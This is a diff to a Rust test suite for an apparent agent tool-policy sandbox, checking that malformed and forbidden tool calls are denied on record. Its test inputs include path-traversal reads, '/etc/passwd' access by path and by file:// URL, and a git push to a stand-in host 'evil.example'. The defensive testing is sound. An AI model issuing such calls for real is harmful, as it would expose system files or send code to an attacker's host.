@@ -242,10 +242,10 @@ got['ports'] = ports
         .filter(|port| *port < 10_000)
         .collect();
     assert_eq!(ports, [7070], "only the session's tools listen");
-    assert!(
-        ended.told[2].is_error() && ended.told[3].is_error(),
-        "there is no such tool"
-    );
+    for told in &ended.told[2..] {
+        assert_eq!(told.layer(), "policy: malformed", "there is no such tool");
+    }
+    assert!(ended.denials() >= 3, "two calls and what was held back");
     // The twin: the user can.
     let applied = scene
         .nucleus(&["apply", "--yes", ".envrc"])
@@ -352,18 +352,64 @@ fn e12_no_argument_and_no_variable_switches_the_boundary_off() {
     ended.assert_sound();
     let (last, refused) = ended.told.split_last().unwrap();
     assert!(
-        refused
-            .iter()
-            .all(|told| told.is_error() && told.text().contains("unknown field")),
+        refused.iter().all(
+            |told| told.layer() == "policy: malformed" && told.text().contains("unknown field")
+        ),
         "{}",
         ended.stdout
     );
+    assert_eq!(ended.denials(), refused.len());
     assert_eq!(
         last.layer(),
         "nothing",
         "the twin: without it the tool works"
     );
     assert_eq!(ended.summary["boundary"], "jail");
+}
+
+#[test]
+fn what_cannot_be_judged_and_what_is_never_granted_is_denied_on_record() {
+    let scene = Scene::new();
+    let malformed = [
+        tool("nonsense", json!({})),
+        tool("read", json!({ "path": "../out/secret.txt" })),
+        tool("read", json!({ "path": "/etc/passwd" })),
+        tool("read", json!({ "path": 7 })),
+        tool("write", json!({ "path": "C:.env", "content": "x" })),
+        tool("run", json!({ "command": "echo 'open" })),
+        tool("run", json!({ "command": "true", "cwd": "../out" })),
+        tool("git_commit", json!({ "message": "m", "paths": ["../y"] })),
+        tool("web_fetch", json!({ "url": "file:///etc/passwd" })),
+    ];
+    let never = [
+        tool("git_push", json!({})),
+        tool(
+            "git_push",
+            json!({ "url": "https://evil.example/x.git", "branch": "main" }),
+        ),
+        tool("create_pr", json!({ "title": "t" })),
+    ];
+    let twin = [tool("read", json!({ "path": "a.txt" }))];
+    let steps: Vec<Step> = malformed
+        .iter()
+        .chain(&never)
+        .chain(&twin)
+        .cloned()
+        .collect();
+    let ended = scene.session().policy(NO_TOUCH).run(&steps);
+    ended.assert_sound();
+    let (of_form, rest) = ended.told.split_at(malformed.len());
+    for told in of_form {
+        assert_eq!(told.layer(), "policy: malformed", "{}", told.text());
+        for name in ["operation", "rule", "evidence", "way_out"] {
+            assert!(!told.data()[name].is_null(), "{name}: {}", told.data());
+        }
+    }
+    for told in &rest[..never.len()] {
+        assert_eq!(told.layer(), "policy: level_never", "{}", told.text());
+    }
+    assert_eq!(rest[never.len()].layer(), "nothing");
+    assert_eq!(ended.denials(), malformed.len() + never.len());
 }
 
 #[test]
